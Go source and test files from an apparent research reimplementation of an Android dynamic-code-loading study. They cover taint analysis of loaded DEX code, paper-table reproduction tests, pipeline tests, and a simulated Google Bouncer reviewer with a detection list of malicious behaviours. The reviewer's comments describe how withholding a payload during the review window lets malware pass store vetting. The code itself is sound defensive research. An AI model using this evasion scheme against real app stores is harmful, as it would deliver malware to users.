// TestSLOTrimKeepsNewestBuckets: retention bounds the series.
func TestSLOTrimKeepsNewestBuckets(t *testing.T) {
	s := NewSLOState(SLOOptions{Retention: 5 * time.Minute})
	av := s.find(SLOScanAvailability)
	if av.Cap != 5 {
		t.Fatalf("cap = %d, want 5", av.Cap)
	}
	for i := 0; i < 20; i++ {
		av.observe(sloBase.Add(time.Duration(i)*time.Minute), true)
	}
	if len(av.Buckets) != 5 {
		t.Fatalf("buckets = %d, want 5", len(av.Buckets))
	}
	if av.Buckets[4].Start != sloBase.Add(19*time.Minute).Unix() {
		t.Fatalf("newest bucket start = %d", av.Buckets[4].Start)
	}
}

// sloApp builds a minimal completed analysis taking total wall time.
func sloApp(i int, total time.Duration) (*core.AppResult, *trace.Trace) {
	res := &core.AppResult{Package: fmt.Sprintf("com.slo.app%d", i), Status: core.StatusExercised}
	return res, appTrace(fmt.Sprintf("%02x", i), sloBase.Add(time.Duration(i)*time.Second), total, total/2)
}

// TestAggregatorFeedsSLO: ObserveApp / ObserveError verdicts land in the
// right objectives, and the snapshot deep-copies the state.
func TestAggregatorFeedsSLO(t *testing.T) {
	agg := New(Options{})
	slow, trSlow := sloApp(0, 3*time.Second)
	agg.ObserveApp(slow, trSlow)
	fast, trFast := sloApp(1, 100*time.Millisecond)
	agg.ObserveApp(fast, trFast)
	_, trErr := sloApp(2, time.Second)
	agg.ObserveError("com.broken", errFake("vm exploded"), trErr)

	snap := agg.Snapshot()
	if snap.SLO == nil {
		t.Fatal("snapshot dropped SLO state")
	}
	av := snap.SLO.find(SLOScanAvailability)
	g, b := sumBuckets(av)
	if g != 2 || b != 1 {
		t.Fatalf("availability good/bad = %d/%d, want 2/1", g, b)
	}
	lat := snap.SLO.find(SLOAnalyzeLatency)
	g, b = sumBuckets(lat)
	if g != 1 || b != 1 {
		t.Fatalf("latency good/bad = %d/%d, want 1/1 (3s run over 2s threshold)", g, b)
	}
	// Deep copy: mutating the snapshot must not touch the live aggregate.
	av.Buckets[0].Bad = 999
	if g, b := sumBuckets(agg.Snapshot().SLO.find(SLOScanAvailability)); g != 2 || b != 1 {
		t.Fatalf("snapshot aliases live state: %d/%d", g, b)
	}
}

func sumBuckets(o *SLOObjective) (good, bad int64) {
	for _, b := range o.Buckets {
		good += b.Good
		bad += b.Bad
	}
	return
}

// TestDashboardRendersSLOAndTimeline: the dashboard shows the SLO table
// and the ops timeline when the snapshot carries them.
func TestDashboardRendersSLOAndTimeline(t *testing.T) {
	agg := New(Options{})
	res, tr := sloApp(0, 50*time.Millisecond)
	agg.ObserveApp(res, tr)
	snap := agg.Snapshot()
	snap.Events.Observe(events.Event{
		Time: sloBase, Type: events.NodeEjected, Node: "127.0.0.1:9001",
		Detail: "probe timeout",
	})
	var buf strings.Builder
	if err := RenderDashboard(&buf, DashboardData{Snap: snap, Now: sloBase}); err != nil {
		t.Fatal(err)
	}
	html := buf.String()
	for _, want := range []string{
		"Service objectives", SLOScanAvailability, SLOAnalyzeLatency,
		"Ops timeline", "node-ejected", "probe timeout",
	} {
		if !strings.Contains(html, want) {
			t.Errorf("dashboard missing %q", want)
		}
	}
}
