package experiments

import (
	"testing"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/corpus"
)

// raceDetectorEnabled is flipped by race_test.go under `go test -race`.
var raceDetectorEnabled bool

// TestFullScaleReproduction runs the complete 58,739-app measurement and
// asserts exact equality with every count the paper publishes in Tables
// II, IV, V, VI, VII, VIII, IX and X. It takes about 90 seconds on one
// core; `go test -short` skips it.
func TestFullScaleReproduction(t *testing.T) {
	if testing.Short() {
		t.Skip("full-scale measurement skipped in -short mode")
	}
	if raceDetectorEnabled {
		// ~10x race-detector slowdown pushes the 58,739-app run past the
		// default package timeout; the scaled runner tests already exercise
		// every concurrent path under -race.
		t.Skip("full-scale measurement skipped under the race detector")
	}
	res, err := Run(Config{Seed: 2016, Scale: 1.0, Workers: 8})
	if err != nil {
		t.Fatal(err)
	}
	p := corpus.Paper()
	eq := func(name string, got, want int) {
		t.Helper()
		if got != want {
			t.Errorf("%s = %d, want %d", name, got, want)
		}
	}

	eq("total apps", len(res.Records), p.Total)

	// Table II.
	var dexCand, dexRewrite, dexNoAct, dexCrash, dexInt int
	var natCand, natRewrite, natNoAct, natCrash, natInt int
	var unpackFail int
	for _, rec := range res.Records {
		if rec.Result.Status == core.StatusUnpackFailure {
			unpackFail++
		}
		if dexCandidate(rec) {
			dexCand++
			switch rec.Result.Status {
			case core.StatusRewriteFailure:
				dexRewrite++
			case core.StatusNoActivity:
				dexNoAct++
			case core.StatusCrash:
				dexCrash++
			}
			if dexIntercepted(rec) {
				dexInt++
			}
		}
		if nativeCandidate(rec) {
			natCand++
			switch rec.Result.Status {
			case core.StatusRewriteFailure:
				natRewrite++
			case core.StatusNoActivity:
				natNoAct++
			case core.StatusCrash:
				natCrash++
			}
			if nativeIntercepted(rec) {
				natInt++
			}
		}
	}
	eq("dex candidates", dexCand, p.DexCandidates)
	eq("dex rewriting failures", dexRewrite, p.DexRewriteFailures)
	eq("dex no-activity", dexNoAct, p.DexNoActivity)
	eq("dex crashes", dexCrash, p.DexCrashes)
	eq("dex intercepted", dexInt, p.DexIntercepted)
	eq("native candidates", natCand, p.NativeCandidates)
	eq("native rewriting failures", natRewrite, p.NativeRewriteFailures)
	eq("native no-activity", natNoAct, p.NativeNoActivity)
	eq("native crashes", natCrash, p.NativeCrashes)
	eq("native intercepted", natInt, p.NativeIntercepted)
	eq("anti-decompilation (unpack failures)", unpackFail, p.AntiDecompile)

	// Table IV.
	var dexThird, dexOwn, dexBoth, natThird, natOwn, natBoth int
	for _, rec := range res.Records {
		if dexIntercepted(rec) {
			own, third := rec.Result.Entities(core.KindDex)
			if third {
				dexThird++
			}
			if own {
				dexOwn++
			}
			if own && third {
				dexBoth++
			}
		}
		if nativeIntercepted(rec) {
			own, third := rec.Result.Entities(core.KindNative)
			if third {
				natThird++
			}
			if own {
				natOwn++
			}
			if own && third {
				natBoth++
			}
		}
	}
	eq("dex third-party", dexThird, 16755)
	eq("dex own", dexOwn, p.DexOwnOnly+p.DexBoth)
	eq("dex both", dexBoth, p.DexBoth)
	eq("native third-party", natThird, 11834)
	eq("native own", natOwn, p.NativeOwnOnly+p.NativeBoth)
	eq("native both", natBoth, p.NativeBoth)

	// Table V.
	remote := 0
	for _, rec := range res.Records {
		if len(rec.Result.RemoteURLs()) > 0 {
			remote++
		}
	}
	eq("remote-fetch apps", remote, p.RemoteApps)

	// Table VI.
	var lex, refl, packd int
	for _, rec := range res.Records {
		if rec.Result.Obfuscation.Lexical {
			lex++
		}
		if rec.Result.Obfuscation.Reflection {
			refl++
		}
		if rec.Result.Obfuscation.DEXEncryption {
			packd++
		}
	}
	eq("lexical obfuscation", lex, p.Lexical)
	eq("reflection", refl, p.Reflection)
	eq("dex encryption", packd, p.Packed)

	// Table VII.
	famApps := map[string]int{}
	files := 0
	for _, rec := range res.Records {
		seen := map[string]bool{}
		for _, hit := range rec.Result.Malware {
			if !seen[hit.Family] {
				seen[hit.Family] = true
				famApps[hit.Family]++
			}
			files++
		}
	}
	eq("swiss apps", famApps["Swiss code monkeys"], p.SwissApps)
	eq("adware apps", famApps["Adware airpush minimob"], p.AdwareApps)
	eq("chathook apps", famApps["Chathook ptrace"], p.ChathookApps)
	eq("malware families", len(famApps), 3)
	eq("malicious files", files, p.MalwareFiles)

	// Table VIII.
	loaded := map[core.ReplayConfig]int{}
	for _, rec := range res.Records {
		for _, cfg := range core.AllReplayConfigs {
			for path := range rec.MalwarePaths {
				if rec.ReplayLoaded[cfg][path] {
					loaded[cfg]++
				}
			}
		}
	}
	eq("loaded under time-before-release", loaded[core.ConfigTimeBeforeRelease], p.MalwareFiles-p.GateTime)
	eq("loaded under airplane+wifi-on", loaded[core.ConfigAirplaneWiFiOn], p.MalwareFiles-p.GateAirplane)
	eq("loaded under airplane+wifi-off", loaded[core.ConfigAirplaneWiFiOff], p.MalwareFiles-p.GateAirplane-p.GateConn)
	eq("loaded under location-off", loaded[core.ConfigLocationOff], p.MalwareFiles-p.GateLocation)

	// Table IX.
	var vulnExt, vulnIntern int
	for _, rec := range res.Records {
		seen := map[core.VulnKind]bool{}
		for _, v := range rec.Result.Vulns {
			if !seen[v.Kind] {
				seen[v.Kind] = true
				switch v.Kind {
				case core.VulnExternalStorage:
					vulnExt++
				case core.VulnOtherAppInternal:
					vulnIntern++
				}
			}
		}
	}
	eq("vulnerable external-storage apps", vulnExt, p.VulnDexExternal)
	eq("vulnerable other-app-internal apps", vulnIntern, p.VulnNativeIntern)

	// Table X (every row, including entity attribution).
	apps := map[string]int{}
	excl := map[string]int{}
	for _, rec := range res.Records {
		if rec.Result.Privacy == nil {
			continue
		}
		for _, dt := range rec.Result.Privacy.LeakedTypes() {
			apps[string(dt)]++
			if rec.Result.PrivacyByEntity[string(dt)] {
				excl[string(dt)]++
			}
		}
	}
	for _, row := range corpus.TableX {
		eq("Table X "+row.Type, apps[row.Type], row.Apps)
		eq("Table X "+row.Type+" exclusive", excl[row.Type], row.Exclusive)
	}
	eq("Table X Settings", apps[string(android.DTSettings)], p.AdApps+p.SettingsReaders)
	eq("Table X Settings exclusive", excl[string(android.DTSettings)], p.AdApps+p.SettingsReaders-p.OwnSettings)
}
