// Package taint implements the FlowDroid-style static data-flow analysis
// DyDroid runs on intercepted DEX binaries (paper §III-C). Unlike the
// stock FlowDroid, which needs a manifest and layout resources to find
// entry points, this analysis treats every method of every class as a
// potential entry point — the paper's modification for analyzing loaded
// code whose entry is an arbitrary class.
//
// Sources are the privacy APIs and content-provider URIs of
// internal/android's catalog (the 18 data types of Table X); sinks are the
// SuSi-style sink list. Propagation is interprocedural via fixed-point
// method summaries, flow-insensitive across fields, flow-sensitive within
// method bodies.
package taint

import (
	"sort"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/dex"
)

// Leak is one detected source-to-sink flow.
type Leak struct {
	Type     android.DataType
	Category android.Category
	Sink     dex.MethodRef
	// Class and Method locate the code where tainted data reached the
	// sink; Class drives responsible-entity attribution.
	Class  string
	Method string
}

// Result is the analysis outcome for one binary.
type Result struct {
	Leaks []Leak
	// SourcesSeen lists the data types read anywhere in the binary, even
	// if they never reach a sink (used by the "reads settings only"
	// classification of the Google Ads library).
	SourcesSeen map[android.DataType]bool
}

// LeakedTypes returns the distinct leaked data types, sorted.
func (r *Result) LeakedTypes() []android.DataType {
	seen := make(map[android.DataType]bool)
	for _, l := range r.Leaks {
		seen[l.Type] = true
	}
	out := make([]android.DataType, 0, len(seen))
	for dt := range seen {
		out = append(out, dt)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// LeakClasses returns the distinct classes whose code leaked the given
// type.
func (r *Result) LeakClasses(dt android.DataType) []string {
	seen := make(map[string]bool)
	for _, l := range r.Leaks {
		if l.Type == dt && !seen[l.Class] {
			seen[l.Class] = true
		}
	}
	out := make([]string, 0, len(seen))
	for c := range seen {
		out = append(out, c)
	}
	sort.Strings(out)
	return out
}

// taintSet is a small set of data types.
type taintSet map[android.DataType]bool

func (s taintSet) add(other taintSet) bool {
	changed := false
	for dt := range other {
		if !s[dt] {
			s[dt] = true
			changed = true
		}
	}
	return changed
}

func single(dt android.DataType) taintSet { return taintSet{dt: true} }

func (s taintSet) clone() taintSet {
	c := make(taintSet, len(s))
	for dt := range s {
		c[dt] = true
	}
	return c
}

// summary is the interprocedural abstraction of one method.
type summary struct {
	// ret is the taint of the return value assuming untainted parameters.
	ret taintSet
	// paramToRet marks parameters whose taint flows to the return value.
	paramToRet []bool
	// paramToSink marks parameters whose taint reaches a sink inside the
	// method (transitively).
	paramToSink []bool
}

// analyzer carries the fixed-point state.
type analyzer struct {
	file     *dex.File
	methods  map[dex.MethodRef]*methodInfo
	fieldTnt map[dex.FieldRef]taintSet
	leaks    []Leak
	leakSeen map[Leak]bool
	seen     taintSet
}

type methodInfo struct {
	cls *dex.Class
	m   *dex.Method
	sum *summary
}

// MaxPasses bounds the fixed-point iteration; summaries for realistic
// loaded code converge in two or three passes.
const MaxPasses = 10

// Analyze runs the taint analysis over one decoded binary.
func Analyze(df *dex.File) *Result {
	a := &analyzer{
		file:     df,
		methods:  make(map[dex.MethodRef]*methodInfo),
		fieldTnt: make(map[dex.FieldRef]taintSet),
		leakSeen: make(map[Leak]bool),
		seen:     make(taintSet),
	}
	for _, c := range df.Classes {
		for _, m := range c.Methods {
			ref := m.Ref(c)
			a.methods[ref] = &methodInfo{cls: c, m: m, sum: &summary{
				ret:         make(taintSet),
				paramToRet:  make([]bool, len(m.Params)+1),
				paramToSink: make([]bool, len(m.Params)+1),
			}}
		}
	}
	// Fixed point over method summaries; leaks are collected on the final
	// pass (when summaries are stable, so no duplicates).
	for pass := 0; pass < MaxPasses; pass++ {
		changed := false
		for _, mi := range a.methods {
			if a.analyzeMethod(mi, false) {
				changed = true
			}
		}
		if !changed {
			break
		}
	}
	for _, mi := range a.methods {
		a.analyzeMethod(mi, true)
	}
	sort.Slice(a.leaks, func(i, j int) bool {
		li, lj := a.leaks[i], a.leaks[j]
		if li.Class != lj.Class {
			return li.Class < lj.Class
		}
		if li.Type != lj.Type {
			return li.Type < lj.Type
		}
		return li.Method < lj.Method
	})
	return &Result{Leaks: a.leaks, SourcesSeen: a.seen}
}

// regState is the per-register abstract value: a taint set plus an
// optional known string constant (for provider-URI matching) and
// parameter origin markers for summary construction.
type regState struct {
	taint  taintSet
	strval string
	// params marks which incoming parameters' taint this value carries.
	params map[int]bool
}

func emptyReg() regState { return regState{taint: make(taintSet)} }

func (r regState) clone() regState {
	n := regState{taint: r.taint.clone(), strval: r.strval}
	if r.params != nil {
		n.params = make(map[int]bool, len(r.params))
		for p := range r.params {
			n.params[p] = true
		}
	}
	return n
}

func mergeReg(a, b regState) regState {
	out := a.clone()
	out.taint.add(b.taint)
	if out.strval != b.strval {
		out.strval = ""
	}
	for p := range b.params {
		if out.params == nil {
			out.params = make(map[int]bool)
		}
		out.params[p] = true
	}
	return out
}

// analyzeMethod interprets the method body abstractly. When record is
// true, leaks are emitted; the return value reports whether the method's
// summary or any field taint changed.
func (a *analyzer) analyzeMethod(mi *methodInfo, record bool) bool {
	m := mi.m
	if len(m.Code) == 0 {
		return false
	}
	changed := false
	regs := make([]regState, m.Registers)
	for i := range regs {
		regs[i] = emptyReg()
	}
	// Arguments land in the first registers; mark parameter origins.
	nArgs := len(m.Params)
	if m.Flags&dex.ACCStatic == 0 {
		nArgs++
	}
	for i := 0; i < nArgs && i < len(regs); i++ {
		regs[i].params = map[int]bool{i: true}
	}
	var lastResult regState = emptyReg()

	// Worklist over basic blocks with register-state merging keeps the
	// abstraction flow-sensitive across branches without executing loops.
	g := dex.BuildCFG(m)
	in := make([]([]regState), len(g.Blocks))
	in[0] = cloneRegs(regs)
	work := []int{0}
	visited := make(map[int]int)
	for len(work) > 0 {
		bi := work[0]
		work = work[1:]
		if visited[bi] > 2 { // loop bound: two visits reach the fixpoint for our lattice
			continue
		}
		visited[bi]++
		cur := cloneRegs(in[bi])
		b := g.Blocks[bi]
		for pc := b.Start; pc < b.End; pc++ {
			a.step(mi, m.Code[pc], cur, &lastResult, &changed, record)
		}
		for _, succ := range b.Succs {
			if in[succ] == nil {
				in[succ] = cloneRegs(cur)
				work = append(work, succ)
			} else if mergeInto(in[succ], cur) {
				work = append(work, succ)
			}
		}
	}
	return changed
}

func cloneRegs(rs []regState) []regState {
	out := make([]regState, len(rs))
	for i, r := range rs {
		out[i] = r.clone()
	}
	return out
}

// mergeInto merges src into dst, reporting change.
func mergeInto(dst, src []regState) bool {
	changed := false
	for i := range dst {
		before := len(dst[i].taint)
		beforeParams := len(dst[i].params)
		merged := mergeReg(dst[i], src[i])
		if len(merged.taint) != before || len(merged.params) != beforeParams {
			changed = true
		}
		dst[i] = merged
	}
	return changed
}

// step abstractly executes one instruction.
func (a *analyzer) step(mi *methodInfo, in dex.Instruction, regs []regState, lastResult *regState, changed *bool, record bool) {
	sum := mi.sum
	switch in.Op {
	case dex.OpConst:
		regs[in.A] = emptyReg()
	case dex.OpConstString:
		regs[in.A] = emptyReg()
		regs[in.A].strval = in.Str
	case dex.OpMove:
		regs[in.A] = regs[in.B].clone()
	case dex.OpMoveResult:
		regs[in.A] = lastResult.clone()
	case dex.OpNewInstance, dex.OpNewArray, dex.OpArrayLength, dex.OpInstanceOf:
		regs[in.A] = emptyReg()
	case dex.OpAdd, dex.OpSub, dex.OpMul, dex.OpDiv, dex.OpXor:
		regs[in.A] = mergeReg(regs[in.B], regs[in.C])
		regs[in.A].strval = ""
	case dex.OpArrayGet:
		regs[in.A] = mergeReg(regs[in.B], regs[in.C])
	case dex.OpArrayPut:
		regs[in.B] = mergeReg(regs[in.B], regs[in.A])
	case dex.OpIGet, dex.OpSGet:
		regs[in.A] = emptyReg()
		if t, ok := a.fieldTnt[in.Field]; ok {
			regs[in.A].taint = t.clone()
		}
	case dex.OpIPut, dex.OpSPut:
		t, ok := a.fieldTnt[in.Field]
		if !ok {
			t = make(taintSet)
			a.fieldTnt[in.Field] = t
		}
		if t.add(regs[in.A].taint) {
			*changed = true
		}
	case dex.OpReturn:
		if sum.ret.add(regs[in.A].taint) {
			*changed = true
		}
		for p := range regs[in.A].params {
			if p < len(sum.paramToRet) && !sum.paramToRet[p] {
				sum.paramToRet[p] = true
				*changed = true
			}
		}
	default:
		if in.Op.IsInvoke() {
			a.stepInvoke(mi, in, regs, lastResult, changed, record)
		}
	}
}

func (a *analyzer) stepInvoke(mi *methodInfo, in dex.Instruction, regs []regState, lastResult *regState, changed *bool, record bool) {
	sum := mi.sum
	*lastResult = emptyReg()

	// Source APIs taint the result.
	if dt, ok := android.SourceType(in.Method); ok {
		a.seen[dt] = true
		lastResult.taint[dt] = true
		return
	}
	// Content-provider query: URI argument decides the type. The real
	// query has the resolver receiver at Args[0] and the URI at Args[1].
	if in.Method.Class == android.ResolverQuery.Class && in.Method.Name == android.ResolverQuery.Name {
		for _, r := range in.Args {
			if uri := regs[r].strval; uri != "" {
				if dt, ok := android.ProviderType(uri); ok {
					a.seen[dt] = true
					lastResult.taint[dt] = true
				}
			}
		}
		return
	}
	// Sinks: any tainted argument leaks.
	if android.IsSink(in.Method) {
		for _, r := range in.Args {
			for dt := range regs[r].taint {
				a.recordLeak(mi, in.Method, dt, record)
			}
			for p := range regs[r].params {
				if p < len(sum.paramToSink) && !sum.paramToSink[p] {
					sum.paramToSink[p] = true
					*changed = true
				}
			}
		}
		return
	}
	// App-internal call: apply the callee summary.
	if callee, ok := a.lookupCallee(in.Method); ok {
		cs := callee.sum
		lastResult.taint.add(cs.ret)
		for ai, r := range in.Args {
			if ai < len(cs.paramToRet) && cs.paramToRet[ai] {
				lastResult.taint.add(regs[r].taint)
				for p := range regs[r].params {
					if lastResult.params == nil {
						lastResult.params = make(map[int]bool)
					}
					lastResult.params[p] = true
				}
			}
			if ai < len(cs.paramToSink) && cs.paramToSink[ai] {
				for dt := range regs[r].taint {
					a.recordLeak(mi, in.Method, dt, record)
				}
				for p := range regs[r].params {
					if p < len(sum.paramToSink) && !sum.paramToSink[p] {
						sum.paramToSink[p] = true
						*changed = true
					}
				}
			}
		}
		return
	}
	// Unknown external call: taint flows through conservatively
	// (tainted arg -> tainted result).
	for _, r := range in.Args {
		lastResult.taint.add(regs[r].taint)
	}
}

// lookupCallee resolves an invoked method to its definition in this
// binary, trying the exact signature first, then by name (virtual
// dispatch across the file's classes).
func (a *analyzer) lookupCallee(ref dex.MethodRef) (*methodInfo, bool) {
	if mi, ok := a.methods[ref]; ok {
		return mi, true
	}
	for cand, mi := range a.methods {
		if cand.Class == ref.Class && cand.Name == ref.Name {
			return mi, true
		}
	}
	return nil, false
}

func (a *analyzer) recordLeak(mi *methodInfo, sink dex.MethodRef, dt android.DataType, record bool) {
	if !record {
		return
	}
	l := Leak{
		Type:     dt,
		Category: android.CategoryOf[dt],
		Sink:     sink,
		Class:    mi.cls.Name,
		Method:   mi.m.Name,
	}
	if !a.leakSeen[l] {
		a.leakSeen[l] = true
		a.leaks = append(a.leaks, l)
	}
}
