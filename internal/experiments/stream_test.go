package experiments

import (
	"context"
	"errors"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/corpus"
)

// TestStreamedMatchesMaterialized is the streaming acceptance criterion:
// a run that consumes the corpus through corpus.Stream renders a
// byte-identical measurement report, and identical per-app statuses in
// identical order, to the materialized-store run at the same seed and
// scale (the TestShardMergeMatchesUnsharded of the streaming pipeline).
func TestStreamedMatchesMaterialized(t *testing.T) {
	mat, err := Run(Config{Seed: 29, Scale: 0.002, Workers: 4})
	if err != nil {
		t.Fatalf("materialized Run: %v", err)
	}
	str, err := Run(Config{Seed: 29, Scale: 0.002, Workers: 4, Stream: true})
	if err != nil {
		t.Fatalf("streamed Run: %v", err)
	}
	if len(str.Records) != len(mat.Records) {
		t.Fatalf("streamed run produced %d records, materialized %d", len(str.Records), len(mat.Records))
	}
	for i := range mat.Records {
		m, s := mat.Records[i], str.Records[i]
		if m == nil || s == nil {
			t.Fatalf("record %d: nil record (materialized=%v streamed=%v)", i, m != nil, s != nil)
		}
		if m.Meta.Package != s.Meta.Package {
			t.Fatalf("record %d: package %q (materialized) != %q (streamed)", i, m.Meta.Package, s.Meta.Package)
		}
		if m.Result.Status != s.Result.Status {
			t.Fatalf("record %d (%s): status %q (materialized) != %q (streamed)",
				i, m.Meta.Package, m.Result.Status, s.Result.Status)
		}
	}
	if m, s := mat.Fleet.MeasurementReport(), str.Fleet.MeasurementReport(); m != s {
		t.Fatalf("measurement reports differ:\n--- materialized ---\n%s\n--- streamed ---\n%s", m, s)
	}
}

// TestOneParsePerApp is the parse-count regression test: a full pipeline
// run parses each analyzed archive exactly once. Corpus generation,
// training, installs, the VM boot, static analysis and replays all work
// from the one parse (or from raw dex payloads that never enter
// apk.Parse), so the counter delta equals the app count.
func TestOneParsePerApp(t *testing.T) {
	before := apk.ParseCalls()
	res, err := Run(Config{Seed: 31, Scale: 0.002, Workers: 2, Stream: true})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if res.RunStats.Retried != 0 || res.RunStats.Failed != 0 {
		t.Fatalf("run not clean (retried=%d failed=%d); parse accounting needs a clean run",
			res.RunStats.Retried, res.RunStats.Failed)
	}
	parses := apk.ParseCalls() - before
	apps := int64(len(res.Records))
	if parses != apps {
		t.Fatalf("pipeline parsed %d times for %d apps, want exactly one parse per app", parses, apps)
	}
	// The run must have exercised the deep path (rewrite + dynamic +
	// replays), or one-parse would be vacuous.
	if res.RunStats.StatusCounts[core.StatusExercised] == 0 {
		t.Fatal("no app reached the dynamic stage; one-parse check is vacuous")
	}
}

// TestRunCancelledBeforeWorkers: cancellation is honoured in the
// pre-worker phase — corpus generation returns the context error before
// the plan runs, and no analysis function is ever invoked.
func TestRunCancelledBeforeWorkers(t *testing.T) {
	for _, mode := range []struct {
		name   string
		stream bool
	}{{"materialized", false}, {"streamed", true}} {
		t.Run(mode.name, func(t *testing.T) {
			ctx, cancel := context.WithCancel(context.Background())
			cancel()
			var calls int32
			cfg := Config{Seed: 11, Scale: 0.002, Workers: 2, Context: ctx, Stream: mode.stream}
			cfg.analyze = func(ctx context.Context, an *core.Analyzer, st *corpus.Store, app *corpus.StoreApp) (*AppRecord, error) {
				atomic.AddInt32(&calls, 1)
				return analyzeOne(ctx, an, st, app)
			}
			_, err := Run(cfg)
			if err == nil || !errors.Is(err, context.Canceled) {
				t.Fatalf("err = %v, want context.Canceled", err)
			}
			if !strings.Contains(err.Error(), "corpus: generate") {
				t.Fatalf("cancellation caught too late (want the pre-worker generate phase): %v", err)
			}
			if n := atomic.LoadInt32(&calls); n != 0 {
				t.Fatalf("analysis ran %d times under a pre-cancelled context", n)
			}
		})
	}
}
