// Package bouncer simulates the marketplace's submission review (Google
// Bouncer): a static malware scan of the submitted archive followed by a
// short dynamic run in a sandboxed device. It exists to reproduce the
// paper's §III-B experiment — App_M (known malware) is rejected, while
// App_L, which fetches App_M's code over the network only after release,
// passes review because the delivery server withholds the payload during
// the review window.
package bouncer

import (
	"context"
	"fmt"
	"strconv"
	"strings"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/droidnative"
	"github.com/dydroid/dydroid/internal/mail"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/monkey"
	"github.com/dydroid/dydroid/internal/nativebin"
	"github.com/dydroid/dydroid/internal/netsim"
	"github.com/dydroid/dydroid/internal/trace"
	"github.com/dydroid/dydroid/internal/vm"
)

// Verdict is a review outcome.
type Verdict struct {
	Approved bool
	// Reason describes the rejection (empty when approved).
	Reason string
}

// Reviewer is the store-side checker.
type Reviewer struct {
	// Classifier is the static/dynamic malware detector (required).
	Classifier *droidnative.Classifier
	// Network is the outside world visible to the sandbox; the review
	// fetches through it like a real device would.
	Network *netsim.Network
	// MonkeyEvents bounds the dynamic phase (default 10 — reviews are
	// brief, which is exactly the window evasion exploits).
	MonkeyEvents int
	// Metrics, when non-nil, receives review stage timings
	// (bouncer.review / bouncer.static / bouncer.dynamic) and the
	// bouncer.approved / bouncer.rejected / bouncer.errors counters.
	Metrics *metrics.Registry
}

// maliciousEventKinds are runtime behaviours that fail review on sight.
var maliciousEventKinds = map[string]bool{
	"sms": true, "root": true, "ptrace": true,
	"shortcut": true, "homepage": true,
}

// Review checks one submitted archive.
func (r *Reviewer) Review(apkBytes []byte) (Verdict, error) {
	return r.ReviewContext(context.Background(), apkBytes)
}

// ReviewContext is Review joining the trace carried by ctx: the vetting
// daemon threads one trace through the review and the pipeline run, so a
// submission's whole history lands in a single span tree.
func (r *Reviewer) ReviewContext(ctx context.Context, apkBytes []byte) (Verdict, error) {
	ctx, span := trace.Start(ctx, "review")
	defer r.Metrics.Time("bouncer.review")()
	v, err := r.review(ctx, apkBytes)
	switch {
	case err != nil:
		r.Metrics.Add("bouncer.errors", 1)
		span.EndErr(err)
	case v.Approved:
		r.Metrics.Add("bouncer.approved", 1)
	default:
		r.Metrics.Add("bouncer.rejected", 1)
	}
	if err == nil {
		span.SetAttr("approved", strconv.FormatBool(v.Approved))
		if v.Reason != "" {
			span.SetAttr("reason", v.Reason)
		}
		span.End()
	}
	return v, err
}

func (r *Reviewer) review(ctx context.Context, apkBytes []byte) (Verdict, error) {
	a, err := apk.Parse(apkBytes)
	if err != nil {
		return Verdict{}, fmt.Errorf("bouncer: %w", err)
	}
	// Phase 1: static scan of every binary in the archive.
	_, sStatic := trace.Start(ctx, "review.static")
	stopStatic := r.Metrics.Time("bouncer.static")
	v, rejected := r.staticScan(a)
	stopStatic()
	sStatic.SetAttr("rejected", strconv.FormatBool(rejected))
	sStatic.End()
	if rejected {
		return v, nil
	}

	// Phase 2: brief dynamic run in a sandbox device.
	_, sDynamic := trace.Start(ctx, "review.dynamic")
	defer sDynamic.End()
	defer r.Metrics.Time("bouncer.dynamic")()
	dev := android.NewDevice()
	var net *netsim.Network
	if r.Network != nil {
		net = r.Network.Clone()
		net.Online = dev.NetworkAvailable
	}
	app, err := dev.Packages.Install(a)
	if err != nil {
		return Verdict{}, fmt.Errorf("bouncer: %w", err)
	}
	interceptor := &reviewHooks{}
	machine, err := vm.New(dev, net, app, interceptor, nil)
	if err != nil {
		return Verdict{}, fmt.Errorf("bouncer: %w", err)
	}
	budget := r.MonkeyEvents
	if budget == 0 {
		budget = 10
	}
	monkey.Exercise(machine, budget, 99)

	for _, ev := range machine.Events() {
		if maliciousEventKinds[ev.Kind] {
			return Verdict{Reason: "dynamic run: observed " + ev.Kind + " behaviour"}, nil
		}
	}
	// Scan anything dynamically loaded during the review run.
	for _, path := range interceptor.loaded {
		data, err := dev.Storage.ReadFile(path)
		if err != nil {
			continue
		}
		var prog *mail.Program
		switch {
		case len(data) >= 4 && string(data[:4]) == dex.Magic:
			df, err := dex.Decode(data)
			if err != nil {
				continue
			}
			prog = mail.FromDex(df)
		case nativebin.IsSELF(data):
			lib, err := nativebin.Decode(data)
			if err != nil {
				continue
			}
			prog = mail.FromNative(lib)
		default:
			continue
		}
		if det := r.Classifier.Classify(prog); det.Malware {
			return Verdict{Reason: fmt.Sprintf("dynamic run: loaded code matches %s", det.Family)}, nil
		}
	}
	return Verdict{Approved: true}, nil
}

// staticScan classifies every binary packaged in the archive; rejected
// reports whether the scan already produced a failing verdict.
func (r *Reviewer) staticScan(a *apk.APK) (v Verdict, rejected bool) {
	if a.Dex != nil {
		if df, err := dex.Decode(a.Dex); err == nil {
			if det := r.Classifier.Classify(mail.FromDex(df)); det.Malware {
				return Verdict{Reason: fmt.Sprintf("static scan: classes.dex matches %s (%.0f%%)",
					det.Family, det.Score*100)}, true
			}
		}
	}
	for name, libBytes := range a.NativeLibs {
		lib, err := nativebin.Decode(libBytes)
		if err != nil {
			continue
		}
		if det := r.Classifier.Classify(mail.FromNative(lib)); det.Malware {
			return Verdict{Reason: fmt.Sprintf("static scan: %s matches %s (%.0f%%)",
				name, det.Family, det.Score*100)}, true
		}
	}
	return Verdict{}, false
}

// reviewHooks records loaded paths during the sandbox run (the review's
// own, much shallower, DCL visibility).
type reviewHooks struct {
	loaded []string
}

func (h *reviewHooks) OnClassLoaderInit(kind vm.LoaderKind, dexPath, optDir string, st []vm.StackElement) {
	for _, p := range strings.Split(dexPath, ":") {
		if p != "" {
			h.loaded = append(h.loaded, p)
